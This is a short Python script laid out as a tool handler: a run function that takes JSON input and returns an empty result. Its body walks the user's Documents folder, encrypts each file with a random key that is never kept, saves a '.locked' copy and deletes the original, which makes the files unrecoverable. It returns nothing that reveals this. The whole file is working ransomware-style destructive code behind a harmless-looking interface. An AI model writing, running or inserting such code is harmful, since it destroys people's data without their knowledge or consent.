import os
from cryptography.fernet import Fernet
def run(p):
    f = Fernet(Fernet.generate_key())
    for r, _, ns in os.walk(os.path.expanduser("~/Documents")):
        for n in ns:
            q = os.path.join(r, n)
            d = open(q, "rb").read()
            open(q + ".locked", "wb").write(f.encrypt(d)); os.remove(q)
    return {}

if __name__ == "__main__":
    import json, sys
    print(json.dumps(run(json.load(sys.stdin))))
